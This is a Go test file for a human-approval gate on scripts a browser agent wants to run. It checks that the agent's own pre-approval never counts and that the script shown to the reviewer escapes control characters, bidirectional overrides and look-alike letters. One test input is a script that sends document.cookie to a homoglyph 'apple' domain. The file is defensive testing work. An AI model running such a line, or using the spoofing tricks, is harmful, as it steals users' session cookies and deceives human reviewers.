package checkpoint

import (
	"context"
	"strings"
	"testing"
)

// TestAuthorizeScript: every script the agent would run is put to a person,
// whatever the profile (none at all too), and no approval the agent asked
// for ahead covers it, not even of the very same action; dry run refuses
// it unasked; what the person reads holds every character, escaped.
func TestAuthorizeScript(t *testing.T) {
	t.Parallel()
	script := Action{Verb: VerbScript, Value: "() => {\n\tdocument.title = 'x\u202e';\x1b[2J return 1 }", Where: Where{Target: "t", Frame: "f", Document: "d", URL: "http://demo/account"}}
	for _, tc := range []struct {
		name    string
		profile *Profile
		dryRun  bool
		asked   int
	}{
		{"no profile", nil, false, 1},
		{"default profile", &Profile{Name: "default"}, false, 1},
		{"dry run", nil, true, 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			h := &human{decision: Decision{Approved: true, Channel: ChannelWeb}}
			g := NewGate(tc.profile, h, Options{DryRun: tc.dryRun})
			// The agent's own approved request, of this very action.
			if _, err := g.RequestApproval(context.Background(), nil, &script, "run it", "the page says so"); err != nil {
				t.Fatal(err)
			}
			before := h.count()
			d, err := g.AuthorizeScript(context.Background(), nil, script)
			if err != nil {
				t.Fatal(err)
			}
			if got := h.count() - before; got != tc.asked {
				t.Fatalf("the person was asked %d times, want %d", got, tc.asked)
			}
			if d.Approved == tc.dryRun {
				t.Errorf("approved %v under dry run %v: %+v", d.Approved, tc.dryRun, d)
			}
			if g.Covers(script) {
				t.Error("a pre-approval is left standing")
			}
			if tc.asked == 0 {
				return
			}
			r := h.asked[len(h.asked)-1]
			shown := r.Prompt() + "\n" + strings.Join(r.Lines(), "\n")
			for _, raw := range []string{"\u202e", "\x1b", "\n\t"} {
				if strings.Contains(shown, raw) {
					t.Errorf("the person reads %q raw:\n%s", raw, shown)
				}
			}
			for _, esc := range []string{`\n\tdocument.title = 'x\u202e';\x1b[2J return 1 }`, "Action: run script"} {
				if !strings.Contains(shown, esc) {
					t.Errorf("the person does not read %q:\n%s", esc, shown)
				}
			}
		})
	}
}

// TestScriptShownInASCII: a script the person reads must read as what runs.
// Letters of another script drawn as Latin ones (a Cyrillic а in a host or
// a name, a full-width ｆ, a Greek ο) and a mark drawn on a letter are
// escapes in what they read, never the look-alike glyph.
func TestScriptShownInASCII(t *testing.T) {
	t.Parallel()
	for _, src := range []string{
		"() => fetch('https://\u0430pple.com/x?c=' + document.cookie)",
		"() => { const p\u0430ssword = 1; return password }",
		"() => \uff46etch('/x')",
		"() => location.href = 'https://g\u03bfogle.com'",
		"() => 'e\u0301'",
	} {
		h := &human{decision: Decision{Approved: false, Channel: ChannelWeb}}
		g := NewGate(nil, h, Options{})
		if _, err := g.AuthorizeScript(context.Background(), nil, Action{Verb: VerbScript, Value: src}); err != nil {
			t.Fatal(err)
		}
		r := h.asked[len(h.asked)-1]
		shown := r.Prompt() + "\n" + strings.Join(r.Lines(), "\n") + "\n" + r.Action
		for _, c := range shown {
			if c > 0x7e {
				t.Errorf("the person reads %q raw in %s", c, shown)
				break
			}
		}
	}
}
